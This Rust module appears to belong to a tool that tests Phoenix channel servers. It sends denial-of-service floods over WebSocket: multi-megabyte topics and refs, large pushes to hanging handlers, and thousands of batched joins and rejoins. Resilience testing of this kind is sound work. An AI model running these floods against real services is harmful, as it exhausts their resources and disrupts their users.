//! Attacks on channels: by WebSocket, in the format of version 2.

use std::io;

use super::{Attacker, Open, Sent, Target, frame_head};

async fn open(target: &Target) -> io::Result<Attacker> {
    let path = format!("{}/websocket?vsn=2.0.0", target.channels);
    Attacker::websocket(target.address, &path, false).await
}

/// A text frame.
fn text(text: &str) -> Vec<u8> {
    [&frame_head(true, false, 1, text.len()), text.as_bytes()].concat()
}

fn message(number: usize, topic: &str, event: &str) -> Vec<u8> {
    text(&format!(
        "[\"{number}\",\"{number}\",\"{topic}\",\"{event}\",{{}}]"
    ))
}

/// Sends what `make` returns for each number below `count`, and reads the answers.
async fn each(attacker: &mut Attacker, count: usize, make: impl Fn(usize) -> Vec<u8>) -> Sent {
    for n in 0..count {
        match attacker.send_and_read(&make(n)).await {
            Sent::All => {}
            other => return other,
        }
    }
    Sent::All
}

pub(super) async fn huge_topics(target: &Target) -> io::Result<Open> {
    let mut attacker = open(target).await?;
    let long = "x".repeat(7_900_000);
    let sent = each(&mut attacker, 100, |n| {
        message(n, &format!("room:{n}{long}"), "phx_join")
    })
    .await;
    Ok(Open::after(sent, vec![attacker]))
}

pub(super) async fn huge_refs(target: &Target) -> io::Result<Open> {
    let mut attacker = open(target).await?;
    let long = "7".repeat(3_900_000);
    let join = |n| {
        text(&format!(
            "[\"{n}{long}\",\"{n}{long}\",\"room:{n}\",\"phx_join\",{{}}]"
        ))
    };
    let sent = each(&mut attacker, 100, join).await;
    Ok(Open::after(sent, vec![attacker]))
}

pub(super) async fn pushes_to_slow_handlers(target: &Target) -> io::Result<Open> {
    const CHANNELS: usize = 8;

    let mut attacker = open(target).await?;
    for n in 0..CHANNELS {
        attacker
            .send(&message(n, &format!("room:{n}"), "phx_join"))
            .await;
        attacker
            .send(&message(n, &format!("room:{n}"), "hang"))
            .await;
    }
    let long = "x".repeat(4_000_000);
    let push = |n| {
        let channel = n % CHANNELS;
        text(&format!(
            "[\"{channel}\",\"{n}\",\"room:{channel}\",\"echo\",{{\"x\":\"{long}\"}}]"
        ))
    };
    let sent = each(&mut attacker, 100 * CHANNELS, push).await;
    Ok(Open::after(sent, vec![attacker]))
}

pub(super) async fn joins_that_hang(target: &Target) -> io::Result<Open> {
    let mut attacker = open(target).await?;
    let hundred = |n| {
        (0..100)
            .flat_map(|m| message(100 * n + m, "room:never", "phx_join"))
            .collect()
    };
    let sent = each(&mut attacker, 2_000, hundred).await;
    Ok(Open::after(sent, vec![attacker]))
}

pub(super) async fn rejoins_of_hanging_handlers(target: &Target) -> io::Result<Open> {
    let mut attacker = open(target).await?;
    let fifty = |n| {
        let rejoin = |m| {
            [
                message(m, "room:one", "phx_join"),
                message(m, "room:one", "hang"),
            ]
            .concat()
        };
        (0..50).flat_map(|m| rejoin(50 * n + m)).collect()
    };
    let sent = each(&mut attacker, 1_000, fifty).await;
    Ok(Open::after(sent, vec![attacker]))
}
